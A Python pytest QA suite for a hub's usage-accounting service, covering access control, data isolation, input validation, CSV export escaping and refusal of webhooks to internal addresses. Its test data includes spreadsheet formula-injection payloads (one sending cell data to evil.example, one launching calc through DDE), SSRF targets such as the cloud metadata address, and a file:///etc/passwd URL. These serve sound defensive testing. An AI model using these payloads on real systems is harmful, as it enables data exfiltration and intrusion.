"""The usage service as a hostile new user tries it, through one real hub: every route refuses strangers,
tokens of other users and tokens without the scope (an admin's narrow token is no admin); another user's
usage, group or notifications are never shown; every bad parameter or body is a 4xx naming it, never a
500; the CSV export escapes what a spreadsheet would run as a formula; a burst of 200 requests is
answered; budget webhooks to internal addresses are refused by the outbound policy; a bad price sheet
or budgets file stops the service with one line naming the key; the CLI says plainly when the service
is stopped or stuck. Found by QA of issue 15; each test names what it guards."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer

import psutil
import pytest
import requests

from stratolab.cli import usage_cmd
from stratolab.cli.main import main
from stratolab.db import ensure_schema, make_engine, session_factory
from stratolab.db.usage_ledger import Ledger, Resources, Usage
from stratolab.platform.outbound import OutboundPolicy
from stratolab.platform.service_app import SettingError
from stratolab.usage.pricing import DEFAULT_SHEET, parse_price_sheet
from stratolab.usage.service.app import UsageService
from stratolab.usage.service.openapi import OPENAPI
from stratolab.usage.service.state import Scope, UsageState
from support import command_line, free_port, unique_name

#: users whose budgets notify webhooks at addresses the outbound policy refuses (no STRATOLAB_OUTBOUND_ALLOW)
META, LOOP = unique_name("meta"), unique_name("loop")


def internal_name() -> str | None:
    """A name of this machine that only DNS (here /etc/hosts) tells is internal: it passes the check at
    start (no address written in the URL) and must be refused when the webhook is sent."""
    host = socket.gethostname()
    try:
        found = {info[4][0] for info in socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM)}
    except OSError:
        return None
    return host if found and all(OutboundPolicy().refusal(a) for a in found) else None


INTERNAL = internal_name()
PASSWORD = "pw-Correct-Horse-9"


class Receiver(BaseHTTPRequestHandler):
    got: list[str] = []

    def do_POST(self) -> None:
        Receiver.got.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def receiver():
    server = HTTPServer(("127.0.0.1", free_port()), Receiver)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/hook"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def qhub(hub_factory, tmp_path_factory, receiver):
    budgets = tmp_path_factory.mktemp("usage-qa") / "budgets.yaml"
    # webhooks at this machine's name, which resolves to an internal address: accepted at start (an address
    # written in the URL is refused then: test_a_budget_webhook_at_an_internal_address_stops_the_start),
    # refused when sent; the receiver listens on 127.0.0.1
    host = INTERNAL or "internal-name-unresolved.invalid"
    port = receiver.rsplit(":", 1)[1].split("/")[0]
    budgets.write_text(json.dumps({"budgets": [
        {"name": "meta-hook", "resource": "cpu_hours", "limit": 1, "window": "24h", "action": "flag",
         "scope": {"users": [META]}, "notify": {"webhook": f"http://{host}/latest/meta-data/"}},
        {"name": "loop-hook", "resource": "cpu_hours", "limit": 1, "window": "24h", "action": "flag",
         "scope": {"users": [LOOP]}, "notify": {"webhook": f"http://{host}:{port}/hook"}},
    ]}))
    # no STRATOLAB_OUTBOUND_ALLOW: loopback, private and link-local addresses are refused, as in production
    return hub_factory(STRATOLAB_USAGE_BUDGETS_FILE=str(budgets), STRATOLAB_USAGE_ENFORCE_EVERY="1")


@pytest.fixture(scope="module")
def ledger(qhub):
    return Ledger(session_factory(make_engine(f"sqlite:///{qhub.data_dir / 'platform.sqlite'}")), producer="qa")


@pytest.fixture(scope="module")
def alice(qhub):
    return qhub.create_user(unique_name("alice"))


@pytest.fixture(scope="module")
def bob(qhub):
    return qhub.create_user(unique_name("bob"))


@pytest.fixture(scope="module")
def over_budget(qhub, ledger):
    """META and LOOP each with a server running and over their flag budget: the enforcer (every second)
    writes each an "exceeded" notification and sends its webhook, which the policy refuses."""
    users = {name: qhub.create_user(name) for name in (META, LOOP)}
    for name in users:
        ledger.open(f"server:{name}:qa", username=name, kind="server", thing="qa",
                    resources=Resources(cpu_cores=0.001, memory_gb=0.1))
        record(ledger, name, hours_ago=0.5, hours=1.5)
    yield users
    for name in users:
        ledger.close(f"server:{name}:qa")


def uapi(hub, headers, method, path, **kw):
    return requests.request(method, f"{hub.url}/services/usage/{path}", headers=headers, timeout=60,
                            allow_redirects=False, **kw)


def token(hub, owner: str, headers, scopes: list[str]) -> dict[str, str]:
    r = requests.post(f"{hub.api}/users/{owner}/tokens", headers=headers, json={"scopes": scopes, "note": "qa"})
    assert r.status_code == 201, r.text
    return {"Authorization": f"token {r.json()['token']}"}


def record(ledger, user, *, hours_ago=1.0, hours=1.0, cpu=1.0, thing="nb"):
    end = datetime.now(UTC) - timedelta(hours=hours_ago)
    ledger.append(Usage(username=user, kind="server", thing=thing, started_at=end - timedelta(hours=hours),
                        ended_at=end, seconds=hours * 3600, resources=Resources(cpu_cores=cpu, memory_gb=1.0),
                        producer="qa", reason="stopped"))


def routes():
    """(method, path) of every route of the service but its health check and the OAuth callback."""
    for path, item in OPENAPI["paths"].items():
        if path not in ("/", "/oauth_callback"):
            for method in item:
                yield method.upper(), path.replace("{notification_id}", "1").lstrip("/")


def wait_for(predicate, timeout=30.0, every=0.5):
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(every)


# --- who may call what ----------------------------------------------------------------------------


def test_every_route_refuses_no_token_a_bad_token_and_a_token_without_the_scope(qhub, alice):
    narrow = token(qhub, alice.name, alice.headers, ["read:users:name!user"])
    for method, path in routes():
        body = {"json": {"user": alice.name, "kind": "server"}} if path == "api/check" else {}
        for who, headers in (("none", {}), ("bad", {"Authorization": "token not-a-token"}), ("narrow", narrow)):
            r = uapi(qhub, headers, method, path, **body)
            if path == "admin" and who == "none":
                assert r.status_code == 302 and "oauth2/authorize" in r.headers["Location"]
            elif path == "openapi.json" and who == "narrow":
                assert r.status_code == 200  # the description is no one's data
            else:
                assert r.status_code in (401, 403), (who, method, path, r.status_code, r.text[:200])


def test_an_admins_narrow_token_is_not_an_admin(qhub, alice):
    """A token an admin made for something else (access to the service alone, or reading user names)
    does not open every user's usage: a token is worth its scopes, not its owner's."""
    admin = qhub.admin_headers()
    for scopes in (["access:services!service=usage"], ["access:services!service=usage", "read:users"]):
        narrow = token(qhub, "admin", admin, scopes)
        for method, path, params in (("GET", "api/admin/summary", {}), ("GET", "api/admin/summary.csv", {}),
                                     ("GET", "admin", {}), ("GET", "api/usage", {"user": alice.name}),
                                     ("GET", "api/bill", {"user": alice.name}),
                                     ("GET", "api/budgets", {"user": alice.name})):
            r = uapi(qhub, narrow, method, path, params=params)
            assert r.status_code == 403, (scopes, path, r.status_code, r.text[:200])
    # the admin's own token (custom:usage:read!user=admin among its scopes) is an admin's
    assert uapi(qhub, admin, "GET", "api/admin/summary").status_code == 200
    assert uapi(qhub, admin, "GET", "api/usage", params={"user": alice.name}).status_code == 200


def test_a_budget_check_needs_the_users_usage_scope_or_the_check_scope(qhub, alice, bob):
    check = {"user": alice.name, "kind": "server"}
    assert uapi(qhub, alice.headers, "POST", "api/check", json=check).status_code == 200
    narrow = token(qhub, alice.name, alice.headers, ["access:services!service=usage"])
    assert uapi(qhub, narrow, "POST", "api/check", json=check).status_code == 403
    r = uapi(qhub, bob.headers, "POST", "api/check", json=check)
    assert r.status_code == 403 and "custom:usage:check" in r.json()["error"]


def test_the_admin_page_and_api_refuse_a_logged_in_user_who_is_not_an_admin(qhub, alice, bob):
    s = qhub.browser_session(alice.name, PASSWORD)
    r = s.get(f"{qhub.url}/services/usage/admin")
    if "oauth2/authorize" in r.url:  # the hub asks the user to let the service know who they are
        xsrf = re.search(r'name="_xsrf" value="([^"]+)"', r.text).group(1)
        r = s.post(r.url, data={"_xsrf": xsrf, "scopes": re.findall(r'name="scopes" value="([^"]+)"', r.text)})
    assert r.status_code == 403 and r.headers["Content-Type"].startswith("text/html"), r.text[:300]
    assert "only admins" in r.text
    for path, params in (("api/admin/summary", {}), ("api/admin/summary.csv", {}), ("api/usage", {"user": bob.name})):
        assert s.get(f"{qhub.url}/services/usage/{path}", params=params).status_code == 403, path
    assert s.get(f"{qhub.url}/services/usage/api/usage").status_code == 200  # their own, by the cookie


# --- another user's data ----------------------------------------------------------------------------


def test_another_users_usage_group_and_notifications_are_never_shown(qhub, ledger, alice, bob):
    odd = "ünï-" + unique_name("名")  # a unicode name, straight into the ledger as a producer would write it
    record(ledger, bob.name, cpu=3, thing="bobs-secret")
    record(ledger, odd, cpu=5)
    for path in ("api/usage", "api/bill", "api/budgets"):
        for params in ({"user": bob.name}, {"user": odd}, {"user": bob.name.upper()}):
            r = uapi(qhub, alice.headers, "GET", path, params=params)
            assert r.status_code == 403 and "bobs-secret" not in r.text, (path, params, r.text[:200])
    # a parameter given twice is refused rather than read one way here and another way by a proxy
    r = uapi(qhub, alice.headers, "GET", f"api/usage?user={alice.name}&user={bob.name}")
    assert r.status_code == 400 and r.json()["field"] == "user", r.text
    for group in ("nope", "a/b", "admin", "x" * 200):
        r = uapi(qhub, alice.headers, "GET", "api/usage", params={"group": group})
        assert r.status_code == 403, (group, r.text)  # a group that does not exist reads as one you are not in
    r = uapi(qhub, qhub.admin_headers(), "GET", "api/usage", params={"user": odd, "from": "-1d"})
    assert r.status_code == 200 and r.json()["scope"] == {"user": odd}
    assert r.json()["totals"]["cpu_core_hours"] == pytest.approx(5.0, rel=1e-3)


def test_notifications_of_another_user_can_be_neither_read_nor_marked(qhub, over_budget, alice):
    meta = over_budget[META]
    notes = wait_for(lambda: uapi(qhub, meta.headers, "GET", "api/notifications").json()["notifications"])
    assert notes and notes[0]["budget"] == "meta-hook", notes
    nid = notes[0]["id"]
    mine = uapi(qhub, alice.headers, "GET", "api/notifications").json()["notifications"]
    assert nid not in [n["id"] for n in mine]
    r = uapi(qhub, alice.headers, "POST", f"api/notifications/{nid}/read")
    assert r.status_code == 404, r.text
    assert uapi(qhub, meta.headers, "GET", "api/notifications", params={"unread": "1"}).json()["notifications"]
    for bad in ("0", "9223372036854775808", "9" * 40):  # out of the id's range: 404, never a 500
        r = uapi(qhub, alice.headers, "POST", f"api/notifications/{bad}/read")
        assert r.status_code == 404, (bad, r.text)
    for bad in ("-1", "abc", "1.5"):
        assert uapi(qhub, alice.headers, "POST", f"api/notifications/{bad}/read").status_code == 404


# --- bad input ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("params, field", [
    ({"from": "9999-12-31T23:59:59-14:00"}, "from"),  # past year 9999 in UTC: was a 500
    ({"to": "9999-12-31T23:59:59-14:00"}, "to"),
    ({"from": "0001-01-01"}, "from"),  # a period of 2,000 years
    ({"from": "1926-01-01", "to": "2026-01-01"}, "from"),  # a hundred years
    ({"from": "-99999999999d"}, "from"),  # back before the calendar
    ({"from": "-1e9d"}, "from"),
    ({"from": "2026-02-30"}, "from"),
    ({"from": "2026-01-01T00:00:00+25:00"}, "from"),
    ({"from": "yesterday"}, "from"),
    ({"from": "2026-03-01", "to": "2026-02-01"}, "to"),
    ({"from": "2026-03-01", "to": "2026-03-01"}, "to"),
    ({"by": "moon"}, "by"),
    ({"price_as": "free"}, "price_as"),
    ({"price_as": "spot; drop table"}, "price_as"),
    ({"user": "x" * 300}, "user"),
    ({"group": "x" * 300}, "group"),
])
def test_bad_parameters_are_400s_naming_them(qhub, alice, params, field):
    for path in ("api/usage", "api/bill") if field != "by" else ("api/usage",):
        r = uapi(qhub, alice.headers, "GET", path, params=params)
        assert r.status_code == 400 and r.json()["field"] == field, (path, params, r.status_code, r.text[:300])


def test_the_documented_spans_are_accepted_and_repeats_refused(qhub, alice):
    for params in ({"from": "-7d"}, {"from": "-24h", "to": "now"}, {"from": "month"}, {"from": "-30d", "to": "-1d"},
                   {"from": "2026-03-01T12:00Z", "to": "2026-03-02"}):
        r = uapi(qhub, alice.headers, "GET", "api/usage", params=params)
        assert r.status_code == 200, (params, r.text[:300])
    r = uapi(qhub, alice.headers, "GET", "api/usage?by=day&by=moon")
    assert r.status_code == 400 and r.json()["field"] == "by"
    r = uapi(qhub, qhub.admin_headers(), "GET", "api/admin/summary?sort=cost&sort=user")
    assert r.status_code == 400 and r.json()["field"] == "sort"
    r = uapi(qhub, alice.headers, "GET", "api/usage", params={"user": "x" * 10_000})  # long, under the URL limit (16 KiB)
    assert r.status_code == 400 and r.json()["field"] == "user"


@pytest.mark.parametrize("body, field", [
    ('{"user": "@me", "kind": "server", "resources": {"gpus": NaN}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"cpu_cores": Infinity}}', "resources.cpu_cores"),
    ('{"user": "@me", "kind": "server", "resources": {"memory_gb": -Infinity}}', "resources.memory_gb"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": 1e400}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": 99999999999999999999999}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": -1}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": 1.5}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": true}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"gpus": "2"}}', "resources.gpus"),
    ('{"user": "@me", "kind": "server", "resources": {"cpu_cores": 2, "cpu_cores": -1}}', "resources.cpu_cores"),
    ('{"user": "@me", "kind": "server", "resources": {"disk_gb": 1}}', "resources.disk_gb"),
    ('{"user": "@me", "kind": "server", "resources": "lots"}', "resources"),
    ('{"user": "@me", "kind": "server", "resources": [1, 2]}', "resources"),
    ('{"user": "@me", "kind": ["server"]}', "kind"),
    ('{"user": "@me", "kind": null}', "kind"),
    ('{"user": "@me"}', "kind"),
    ('{"user": 5, "kind": "server"}', "user"),
    ('{"kind": "server"}', "user"),
    ('{"user": "@me", "kind": "server", "colour": "red"}', "colour"),
    ('[]', None),
    ('"server"', None),
    ('{"user": "@me", "kind": ', None),
    ('[' * 50_000 + ']' * 50_000, None),
])
def test_bad_check_bodies_are_400s_naming_the_field(qhub, alice, body, field):
    r = uapi(qhub, {**alice.headers, "Content-Type": "application/json"}, "POST", "api/check",
             data=body.replace("@me", alice.name).encode())
    assert r.status_code == 400, (body[:80], r.status_code, r.text[:300])
    assert r.json().get("field") == field, (body[:80], r.text[:300])


# --- the CSV export ----------------------------------------------------------------------------------


def test_the_csv_export_escapes_formulas_in_every_cell(qhub, ledger):
    tag = unique_name("")
    names = [f'=HYPERLINK("http://evil.example/?"&A1,"{tag}")', f"+{tag}", f"-{tag}+1", f"@SUM({tag})",
             f"\t{tag}tab", f"\r{tag}cr"]
    for name in names:
        record(ledger, name)
    admin = qhub.admin_headers()
    member = qhub.create_user(unique_name("grp"))
    group = f"=cmd|' /C calc'!{tag}"
    assert requests.post(f"{qhub.api}/groups/{requests.utils.quote(group, safe='')}", headers=admin,
                         json={"users": [member.name]}).status_code == 201
    r = uapi(qhub, admin, "GET", "api/admin/summary.csv", params={"from": "-2d"})
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    users = {row[0] for row in rows[1:]}
    for name in names:
        assert "'" + name in users, (name, users)
    assert ["'" + group] == [row[1] for row in rows if row[0] == member.name]


def test_the_summary_lists_every_user_past_the_hubs_page_of_200(qhub):
    """The hub answers a page of at most 200 users: a summary asks page after page, afresh each time."""
    tag = unique_name("many")
    names = [f"{tag}-{i}" for i in range(205)]
    r = requests.post(f"{qhub.api}/users", headers=qhub.admin_headers(), json={"usernames": names})
    assert r.status_code == 201, r.text[:300]
    listed = {u["user"] for u in uapi(qhub, qhub.admin_headers(), "GET", "api/admin/summary").json()["users"]}
    assert set(names) <= listed, sorted(set(names) - listed)[:5]


# --- load ---------------------------------------------------------------------------------------------


def test_a_burst_of_200_concurrent_requests_is_answered_each_with_its_own_usage(qhub, alice, bob):
    """20 fresh tokens (none in the service's cache yet), 200 requests at once: no 5xx, no 429, and
    every answer is its caller's own."""
    headers = [token(qhub, u.name, u.headers, [f"custom:usage:read!user={u.name}",
                                               "access:services!service=usage"]) for u in (alice, bob) * 10]
    owners = [u.name for u in (alice, bob) * 10]

    def one(i: int) -> tuple[int, str | None, str]:
        r = requests.get(f"{qhub.url}/services/usage/api/usage", headers=headers[i % 20],
                         params={"by": ("thing", "resource", "day")[i % 3]}, timeout=120)
        who = r.json().get("scope", {}).get("user") if r.status_code == 200 else r.text[:200]
        return r.status_code, who, owners[i % 20]

    with ThreadPoolExecutor(200) as pool:
        answers = list(pool.map(one, range(200)))
    assert [a for a in answers if a[0] != 200] == []
    assert all(who == owner for _, who, owner in answers)


# --- webhooks ------------------------------------------------------------------------------------------


@pytest.mark.skipif(INTERNAL is None, reason="this machine's name does not resolve to an internal address")
def test_budget_webhooks_to_a_name_resolving_to_an_internal_address_are_refused_when_sent(qhub, over_budget,
                                                                                          receiver):
    """The check at start cannot know where a name leads: the resolver the webhook client uses refuses
    the address it resolves to (as it would a name rebound to 127.0.0.1 after the start)."""
    def log() -> str:
        return qhub.log_path.read_text(errors="replace")

    hooks = (f"budget webhook http://{INTERNAL}/latest", f"budget webhook http://{INTERNAL}:")
    assert wait_for(lambda: all(h in log() for h in hooks), timeout=30), log()[-3000:]
    text = log()
    for path in ("/latest/meta-data/", "/hook"):
        refused = rf"budget webhook http://{re.escape(INTERNAL)}\S*{path} failed: .*(loopback|private|link-local)"
        assert re.search(refused, text), text[-3000:]
    assert Receiver.got == []  # the policy refused it: nothing reached the receiver on this machine


@pytest.mark.parametrize("url", [
    "http://169.254.169.254/latest/meta-data/", "http://localhost:8081/hub/api", "http://127.0.0.1:9/hook",
    "http://10.0.0.5/hooks/ml", "http://192.168.1.20/", "http://[::1]:8080/", "http://[::ffff:169.254.169.254]/",
    "http://127.1/", "http://2130706433/", "https://chat.localhost/hook", "http://0.0.0.0/",
])
def test_a_budget_webhook_at_an_internal_address_stops_the_start(tmp_path, monkeypatch, url):
    """Refused when the budgets file is loaded (it was only refused at send time, at the first warning),
    by the platform's outbound policy: one line naming the budget and the URL."""
    path = tmp_path / "budgets.yaml"
    path.write_text(json.dumps({"budgets": [
        {"name": "fine", "resource": "gpu", "limit": 1, "window": "1d", "notify": {"webhook": "https://chat.example.org/h"}},
        {"name": "team-ml", "resource": "gpu", "limit": 1, "window": "1d", "notify": {"webhook": url}}]}))
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "qa")
    monkeypatch.setenv("STRATOLAB_USAGE_BUDGETS_FILE", str(path))
    monkeypatch.delenv("STRATOLAB_OUTBOUND_ALLOW", raising=False)
    with pytest.raises(SettingError) as e:
        UsageService().initialize([])
    message = str(e.value)
    assert "\n" not in message and "'team-ml'" in message and repr(url) in message, message
    assert "budgets[1].notify.webhook" in message and "--UsageService.budgets_file" in message, message
    assert "STRATOLAB_OUTBOUND_ALLOW" in message and len(message) < 600, message


def test_a_budget_webhook_at_a_network_the_admin_allows_is_accepted(tmp_path, monkeypatch):
    path = tmp_path / "budgets.yaml"
    path.write_text(json.dumps({"budgets": [
        {"name": "internal-chat", "resource": "gpu", "limit": 1, "window": "1d",
         "notify": {"webhook": "http://10.20.0.7:8065/hooks/x"}},
        {"name": "public", "resource": "cpu", "limit": 1, "window": "1d",
         "notify": {"webhook": "https://chat.example.org/hooks/ml"}}]}))
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "qa")
    monkeypatch.setenv("STRATOLAB_USAGE_BUDGETS_FILE", str(path))
    monkeypatch.setenv("STRATOLAB_OUTBOUND_ALLOW", "10.20.0.0/16")
    service = UsageService()
    service.initialize([])
    assert [b.name for b in service.budget_list] == ["internal-chat", "public"]
    monkeypatch.setenv("STRATOLAB_OUTBOUND_ALLOW", "10.30.0.0/16")  # another network: refused
    with pytest.raises(SettingError, match="internal-chat"):
        UsageService().initialize([])


# --- bad settings ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("setting, text, key", [
    ("prices", "cpu_core_hour: -1\n", "cpu_core_hour"),
    ("prices", "cpu_core_hour: .nan\n", "cpu_core_hour"),
    ("prices", "memory_gb_hour: 1e999\n", "memory_gb_hour"),
    ("prices", "gpu_hour: {H100: lots}\n", "gpu_hour.H100"),
    ("prices", "granularity: {servers: 0s}\n", "granularity.servers"),
    ("prices", "granularity: {functions: 5ms}\n", "granularity.functions"),
    ("prices", "rate_classes: {spot: {discount: 1.5}}\n", "rate_classes.spot.discount"),
    ("prices", "currency: " + "X" * 5000 + "\n", "currency"),
    ("prices", "colour: red\n", "colour"),
    ("prices", "cpu_core_hour: [1\n", "line 2"),  # a YAML syntax error: where, in one line
    ("budgets", "budgets: [{resource: gpu_hours, limit: -1, window: 30d}]\n", "budgets[0].limit"),
    ("budgets", "budgets: [{resource: unicorns, limit: 1, window: 30d}]\n", "budgets[0].resource"),
    ("budgets", "budgets: [{resource: gpu_hours, limit: 1, window: 100y}]\n", "budgets[0].window"),
    ("budgets", "budgets: [{resource: gpu, limit: 1, window: 1d, notify: {webhook: 'file:///etc/passwd'}}]\n",
     "budgets[0].notify.webhook"),
    ("budgets", "budgets: [{\n", "line 2"),
])
def test_a_bad_price_sheet_or_budgets_file_is_one_line_naming_the_key(tmp_path, monkeypatch, setting, text, key):
    path = tmp_path / f"{setting}.yaml"
    path.write_text(text)
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "qa")
    monkeypatch.setenv(f"STRATOLAB_USAGE_{setting.upper()}_FILE", str(path))
    with pytest.raises(SettingError) as e:
        UsageService().initialize([])
    message = str(e.value)
    assert "\n" not in message and key in message and f"--UsageService.{setting}_file" in message, message
    assert len(message) < 600, message


def test_a_gpu_model_left_out_of_a_sheet_is_not_free():
    """`gpu_hour: {H100: 4}` prices H100s; other models keep the built-in price (keys not given keep the
    built-in sheet's value), rather than silently costing nothing."""
    sheet = parse_price_sheet({"gpu_hour": {"H100": 4.0}})
    assert sheet.gpu_hour.price("NVIDIA H100 80GB HBM3") == 4.0
    assert sheet.gpu_hour.price("Tesla T4") == sheet.gpu_hour.price(None) == DEFAULT_SHEET.gpu_hour.default > 0
    assert parse_price_sheet({"gpu_hour": {"H100": 4.0, "default": 0}}).gpu_hour.price("Tesla T4") == 0


def test_a_bad_setting_stops_the_real_process_with_status_2_and_one_line(tmp_path):
    sheet = tmp_path / "prices.yaml"
    sheet.write_text("cpu_core_hour: -1\n")
    env = {**os.environ, "JUPYTERHUB_API_TOKEN": "qa", "STRATOLAB_USAGE_PRICES_FILE": str(sheet),
           "JUPYTERHUB_SERVICE_URL": f"http://127.0.0.1:{free_port()}",
           "STRATOLAB_PLATFORM_DB_URL": f"sqlite:///{tmp_path / 'p.sqlite'}"}
    done = subprocess.run([sys.executable, "-m", "stratolab.usage.service.app"], env=env, capture_output=True,
                          text=True, timeout=60)
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert lines[-1].startswith("usage: bad setting:") and "cpu_core_hour" in lines[-1], done.stderr


def test_one_users_usage_priced_as_reserved_is_not_charged_the_platforms_commitment(tmp_path):
    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
    ensure_schema(url)
    sessions = session_factory(make_engine(url))
    end = datetime.now(UTC) - timedelta(hours=1)
    Ledger(sessions, producer="qa").append(Usage(
        username="ann", kind="server", thing="nb", started_at=end - timedelta(hours=1), ended_at=end, seconds=3600,
        resources=Resources(cpu_cores=1, memory_gb=1), producer="qa", reason="stopped"))
    sheet = parse_price_sheet({"rate_classes": {"reserved": {"discount": 0.4, "baseline": {"cpu_cores": 32,
                                                                                          "memory_gb": 128}}}})
    state = UsageState(sessions=sessions, hub_auth=None, hub=None, sheet=sheet)  # type: ignore[arg-type]
    ann = Scope("user", "ann", ("ann",))
    report = asyncio.run(state.usage(ann, end - timedelta(days=30), end, by="thing", price_as=None))
    # ann's hour costs cents on demand; reserved may save or cost a little, not the platform's 32 cores for a month
    assert report["comparison"]["reserved"] <= 2 * report["comparison"]["on-demand"], report["comparison"]


def test_a_very_long_query_string_is_a_4xx(qhub, alice):
    r = uapi(qhub, alice.headers, "GET", "api/usage", params={"user": "x" * 100_000})
    assert r.status_code == 414, r.status_code
    assert "URL is longer" in r.json()["error"]


# --- the CLI (last: it stops the module hub's usage service) ----------------------------------------------


def test_the_cli_takes_the_documented_spans_and_says_plainly_when_the_service_is_stopped(
        qhub, alice, monkeypatch, capsys):
    monkeypatch.setenv("STRATOLAB_URL", qhub.url)
    monkeypatch.setenv("STRATOLAB_TOKEN", alice.token)
    assert main(["usage", "--from", "-7d", "--to", "now", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["scope"] == {"user": alice.name}

    (service,) = [p for p in psutil.Process(qhub.proc.pid).children()
                  if "stratolab.usage.service.app" in command_line(p)]
    monkeypatch.setattr(usage_cmd, "TIMEOUT_S", 3)
    service.send_signal(signal.SIGSTOP)  # stuck: the proxy connects and nothing answers
    try:
        assert main(["usage"]) == 1
        err = capsys.readouterr().err.strip()
        assert err.startswith("stratolab: the usage service") and "did not answer within 3 s" in err, err
        assert "\n" not in err
    finally:
        service.send_signal(signal.SIGKILL)
        assert wait_for(lambda: not service.is_running() or service.status() == psutil.STATUS_ZOMBIE, timeout=10)
    assert main(["usage"]) == 1  # stopped: the proxy's 502
    err = capsys.readouterr().err.strip()
    assert err.startswith("stratolab: the usage service") and "is not running" in err and "\n" not in err, err

    monkeypatch.setenv("STRATOLAB_URL", f"http://127.0.0.1:{free_port()}")  # no hub at all
    assert main(["usage", "budgets"]) == 1
    assert "cannot reach the hub" in capsys.readouterr().err
